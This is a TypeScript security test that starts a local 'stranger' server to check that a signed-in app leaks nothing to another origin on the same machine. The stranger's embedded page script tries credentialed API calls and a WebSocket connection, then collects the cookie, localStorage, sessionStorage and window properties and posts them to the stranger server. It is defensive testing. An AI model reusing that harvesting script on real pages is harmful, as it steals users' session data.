import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { Page } from 'playwright-core';
import { ask } from '../integration/serve-harness.ts';
import { eventProtocol, sessionHeader } from '../../preload/contract/session.ts';

/** Another person's server on this machine: it writes down all it is sent, and its page tries to get at the app. */
async function startStranger(app: string) {
  const heard: string[] = [];
  const html = `<!doctype html><title>Stranger</title><script>
    const said = [];
    const tell = (text) => said.push(String(text));
    const call = (options) => fetch('${app}/api/app.about', { method: 'POST', body: '{}', ...options })
          .then((answer) => answer.text())
          .then(tell, tell);
    const socket = new WebSocket('${app.replace('http', 'ws')}/events', ['${eventProtocol}', 'guess']);
    const closed = new Promise((resolve) => {
      socket.onclose = () => resolve('closed');
      socket.onopen = () => resolve('OPEN');
    });
    Promise.all([
      call({ credentials: 'include', headers: { 'content-type': 'application/json' } }),
      call({ mode: 'no-cors', credentials: 'include' }),
      closed.then(tell),
    ])
      .then(() => {
        const { cookie } = document;
        const stored = { ...localStorage, ...sessionStorage };
        const body = JSON.stringify({ said, cookie, stored, opener: String(window.opener), name: window.name });
        return fetch('/found', { method: 'POST', body });
      })
      .then(() => { document.title = 'Done'; });
  </script>`;
  const server = createServer((request, response) => {
    const parts: string[] = [request.url ?? '', JSON.stringify(request.rawHeaders)];
    request.on('data', (piece: Buffer) => parts.push(piece.toString()));
    request.on('end', () => {
      heard.push(parts.join('\n'));
      response.setHeader('content-type', 'text/html');
      response.end(html);
    });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  return {
    heard,
    url: `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}/`,
    close: () => void (server.closeAllConnections(), server.close()),
  };
}

/**
 * `page` is signed in at `app`. It opens a stranger's server on another port, by its address and by a link, and what
 * that got opens nothing.
 */
export async function checkOtherPorts(page: Page, app: string): Promise<void> {
  const secret = await page.evaluate(() => localStorage.getItem('safedpo-session'));
  assert.match(secret ?? '', /^[\w-]{43}$/, 'this page is signed in');
  assert.deepEqual(await page.context().cookies(), [], 'nothing is kept in a cookie');
  const stranger = await startStranger(app);
  try {
    await page.goto(stranger.url);
    await page.waitForFunction(() => document.title === 'Done');
    const all = stranger.heard.join('\n');
    assert.ok(stranger.heard.length >= 2, 'the stranger hears');
    assert.ok(!all.includes(secret ?? ''), 'the secret did not go there');
    assert.ok(!/cookie"/i.test(stranger.heard[0] ?? ''), 'no cookie header');
    assert.ok(
      !/OPEN|"value"|libraryFolder/.test(stranger.heard.at(-1) ?? ''),
      `its page got nothing out of the app: ${stranger.heard.at(-1)}`,
    );
    // Whatever it has, sent with the app's own Host and Origin.
    for (const word of new Set(all.match(/[\w-]{16,}/g))) {
      const headers = {
        origin: app,
        'content-type': 'application/json',
        cookie: `safedpo-session=${word}`,
        [sessionHeader]: word,
      };
      const { status } = await ask(Number(new URL(app).port), { path: '/api/app.about', headers, body: '{}' });
      assert.equal(status, 401);
    }
    const right = { origin: app, 'content-type': 'application/json', [sessionHeader]: secret ?? '' };
    assert.equal(
      (await ask(Number(new URL(app).port), { path: '/api/app.about', headers: right, body: '{}' })).status,
      200,
      'the secret itself is good all the while',
    );
    console.log(`passed: a server on another port heard ${stranger.heard.length} requests and nothing it can use`);
  } finally {
    stranger.close();
  }
}
